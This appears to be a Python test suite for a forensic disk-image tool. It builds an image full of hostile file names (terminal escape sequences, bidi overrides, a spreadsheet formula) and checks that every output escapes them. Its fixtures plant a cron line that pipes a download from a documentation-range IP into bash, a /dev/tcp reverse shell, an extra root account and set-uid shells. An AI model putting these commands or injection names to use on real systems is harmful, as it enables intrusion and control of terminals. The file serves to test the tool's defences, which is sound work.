"""Evidence names that would steer a terminal, break a line or are no UTF-8: every output shows them safely, and two names never look alike."""
import csv
import io
import json
import os
import re
import subprocess
import unittest

from harness import DONE, environment, icecore, on_a_terminal, scratch

MIB = 1 << 20
NAMES = [b"red\x1b[31m", b"title\x1b]0;owned\x07", b"two\nlines", b"back\rwards", b"tab\there", b"bad\xff\xfeutf8", b"csi\xc2\x9b31m", b"delete\x7fme",
         b"bidi\xe2\x80\xaegpj.exe", b"pipe|name", b"back\\slash", b"\\x1b[31m", b"\x1b[31m", b"comma,\"quote\"", b"=cmd|'calc'!A0",
         "gr\u00fc\u00df-\u65e5\u672c".encode(), b" leading", b"trailing ", b"a" * 255, b"-rf", b"\x01"]
# Not to be written to a terminal: C0 but tab and newline, DEL, C1, and what turns the direction of text.
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def make_image():
    """A little Debian with each name as a folder, a file, a link and a set-uid shell, made by the kernel."""
    image, mount = scratch() / "hostile.raw", scratch()
    image.touch()
    os.truncate(image, 32 * MIB)
    subprocess.run(["mkfs.ext4", "-q", image], check=True)
    device = subprocess.run(["losetup", "--find", "--show", image], capture_output=True, text=True, check=True).stdout.strip()
    try:
        subprocess.run(["mount", device, mount], check=True)
        try:
            fill(os.fsencode(mount))
        finally:
            subprocess.run(["umount", mount], check=True)
    finally:
        subprocess.run(["losetup", "--detach", device], check=True)
    return image


def write(path, content, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(content)
    os.chmod(path, mode)


def fill(root):
    write(root + b"/etc/os-release", b'ID=debian\nPRETTY_NAME="Debian \x1b[31mred"\n')
    write(root + b"/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nev\x1bil:x:0:0::/:/bin/sh\n")
    write(root + b"/var/lib/dpkg/status", b"Package: base-files\nStatus: install ok installed\nVersion: 12\nArchitecture: amd64\n\n")
    write(root + b"/etc/cron.d/job\x1b[2J", b"* * * * * root curl http://198.51.100.23/\x1b[31mx | bash\n")
    write(root + b"/root/.bash_history", b"bash -i >& /dev/tcp/198.51.100.23/4444\x1b]0;pwn\x07 0>&1\n")
    with open("/bin/bash", "rb") as file:
        shell = file.read(64)
    for number, name in enumerate(NAMES):
        write(root + b"/names/files/" + name, name)
        os.makedirs(root + b"/names/folders/" + name, exist_ok=True)
        os.makedirs(root + b"/names/links", exist_ok=True)
        os.symlink(name, root + b"/names/links/%d" % number)
        write(root + b"/var/tmp/" + name, shell, 0o4755)


class HostileNamesTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.image, cls.folder = make_image(), scratch()
        cls.env = environment(home=cls.folder)

    def run_on(self, command, *more):
        ran = icecore(command, self.image, *more, env=self.env, cwd=self.folder)
        self.assertEqual(ran.code, DONE, ran)
        self.assert_safe(ran.out_bytes, ran)
        self.assert_safe(ran.err_bytes, ran)
        return ran

    def assert_safe(self, output, ran):
        text = output.decode()  # is UTF-8
        found = STEERING.search(text)
        self.assertIsNone(found, found and f"{found[0]!r} at {text[max(0, found.start() - 80):found.end() + 40]!r} of {ran.arguments}")

    def assert_distinct(self, shown):
        self.assertEqual(len(shown), len(NAMES))
        self.assertEqual(len(set(shown)), len(NAMES))

    def test_ls(self):
        for folder in ("files", "folders", "links"):
            with self.subTest(folder=folder):
                lines = self.run_on("ls", f"/names/{folder}").out.splitlines()
                self.assert_distinct([line.split("Z  ", 1)[1] for line in lines])
                self.assert_distinct([item["path"] for item in self.run_on("ls", f"/names/{folder}", "--json").json()])

    def test_bodyfile_and_mactime(self):
        body = self.folder / "body"
        self.run_on("timeline", "--format", "bodyfile", "-o", body)
        lines = body.read_bytes().splitlines()
        self.assert_safe(body.read_bytes(), self.run_on("timeline", "--format", "bodyfile"))
        self.assertEqual({line.count(b"|") for line in lines}, {10})
        self.assert_distinct([line.split(b"|")[1] for line in lines if b"|/names/files/" in line])
        ran = subprocess.run(["mactime", "-b", body, "-d", "-y", "-z", "UTC"], capture_output=True, check=True)
        self.assertEqual(ran.stderr, b"")

    def test_records(self):
        records = [json.loads(line) for line in self.run_on("timeline", "--format", "jsonl").out.split("\n")[:-1]]
        self.assert_distinct(sorted({r["path"] for r in records if r.get("path", "").startswith("/names/files/")}))
        rows = list(csv.reader(io.StringIO(self.run_on("timeline", "--format", "csv").out)))
        self.assertEqual({len(row) for row in rows}, {len(rows[0])})
        self.assertEqual(len(rows), len(records) + 1)
        self.assertFalse([row for row in rows if any(cell[:1] in ("=", "+", "-", "@") for cell in row)], "a formula")

    def test_findings(self):
        told = self.run_on("triage", "--json").json()
        paths = {where.get("path") for finding in told["findings"] for where in finding["locations"] if finding["rule"] == "setuid-unpackaged"}
        self.assertEqual(len(paths), len(NAMES), "each name once, none like another")
        rules = {finding["rule"] for finding in told["findings"]}
        self.assertLessEqual({"cron-download-run", "shell-history-attack", "extra-root-account"}, rules)
        self.run_on("triage")

    def test_names_given_back_open_the_file(self):
        """What ls shows of a plain name is what cat takes; a name with bytes that cannot be typed is taken raw."""
        for name in NAMES:
            with self.subTest(name=name):
                self.assertEqual(icecore("cat", self.image, b"/names/files/" + name, env=self.env, cwd=self.folder).out_bytes, name)

    def test_stat_and_extract(self):
        for name in NAMES:
            with self.subTest(name=name):
                self.run_on("stat", b"/names/files/" + name)
                self.run_on("stat", b"/names/files/" + name, "--json")
        out = self.folder / "out"
        self.run_on("extract", "/names", out)
        self.assertEqual(sorted(os.listdir(os.fsencode(out) + b"/names/files")), sorted(NAMES))

    def test_on_a_terminal_not_even_a_files_content_steers(self):
        for command in (["cat", b"/names/files/red\x1b[31m"], ["cat", "/root/.bash_history"], ["ls", "/names/files"], ["stat", b"/names/files/csi\xc2\x9b31m"]):
            with self.subTest(command=command):
                shown = on_a_terminal([command[0], self.image, *command[1:], "--no-color"], self.env, self.folder, error=False)
                self.assertNotEqual(shown, b"")
                self.assertIsNone(STEERING.search(shown.decode().replace("\r\n", "\n")), shown)

    def test_an_error_about_a_hostile_name(self):
        ran = icecore("cat", self.image, b"/nowhere/\x1b[31m\xff", env=self.env, cwd=self.folder)
        self.assertEqual(ran.code, 1, ran)
        self.assert_safe(ran.err_bytes, ran)


if __name__ == "__main__":
    unittest.main()
